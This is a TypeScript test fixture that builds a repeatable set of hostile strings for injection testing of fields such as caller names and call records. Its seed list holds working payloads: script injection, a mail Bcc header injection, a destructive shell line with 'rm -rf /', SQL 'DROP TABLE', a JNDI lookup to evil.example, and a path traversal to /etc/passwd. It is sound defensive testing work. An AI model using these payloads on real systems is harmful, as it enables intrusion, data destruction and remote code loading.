/**
 * What callers write into user agents, caller names, numbers and call records to break out of where it is shown: headers
 * of mail and AMI, HTML, Markdown, JSON, frames of syslog, shells, terminals, SQL, bidirectional text.
 */
const SEEDS: readonly string[] = [
  'x\r\nBcc: victim@example.org\r\n\r\n<h1>other body</h1>',
  'x\nSubject: other',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '</title></style><script src=//evil.example></script>',
  '<a href="javascript:alert(1)">click</a>',
  '&lt;script&gt;&#x3c;script&#x3e;',
  '=?utf-8?B?PHNjcmlwdD4=?=',
  '{"incident":"other"}\\"},{"',
  '\\u0022,\\"x\\":1',
  '<134>1 2026-01-01T00:00:00Z evil evil - - - forged',
  '12 <34>1 - - - - - -',
  'x\u0000y',
  '\u202e\u2066drow\u2069',
  '\u2028\u2029',
  '\ufeff\u200b\u200d',
  '\ud800lone\udfff',
  '\u001b[2J\u001b]0;title\u0007',
  '$(reboot)`id`;rm -rf /|cat&',
  "' OR 1=1; DROP TABLE alerts;--",
  '@everyone @channel <!channel> <@U123>',
  '[link](http://evil.example) ![x](http://evil.example/p.png)',
  '**bold** _it_ ~~s~~ `code` # head\n- list',
  'a'.repeat(5_000),
  '\u0301'.repeat(300),
  '😀'.repeat(200),
  'x'.repeat(998) + '\r\nInjected: yes',
  '%0d%0aBcc: victim@example.org',
  '${jndi:ldap://evil.example/x}',
  '{{constructor.constructor("alert(1)")()}}',
  'ACTION: Originate\r\nChannel: Local/1@evil',
  '"Alice" <100>,"x","y"\n"z"',
  '../../../../etc/passwd',
  '',
  ' ',
];

/** A generator that always gives the same numbers (mulberry32). */
function numbers(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  };
}

const ALPHABET = '<>&"\'`\r\n\t\0\\/{}[]()=:;,.@#$%|*_~+- \u202e\u2028\u200b\u00e9\ud83d\ude00\ud800abcXYZ019';

/** `count` hostile strings, always the same: the seeds, pieces of them put together, and noise. */
export function hostile(count: number, seed = 1): string[] {
  const random = numbers(seed);
  const pick = (from: readonly string[]): string => from[Math.floor(random() * from.length)] ?? '';
  const noise = (): string =>
    Array.from(
      { length: 1 + Math.floor(random() * 80) },
      () => ALPHABET[Math.floor(random() * ALPHABET.length)] ?? '',
    ).join('');
  return Array.from({ length: count }, (_, i) => {
    if (i < SEEDS.length) return SEEDS[i] ?? '';
    const parts = Array.from({ length: 1 + Math.floor(random() * 3) }, () =>
      random() < 0.5 ? pick(SEEDS).slice(0, 400) : noise(),
    );
    return parts.join('');
  });
}

export const HOSTILE = hostile(200);
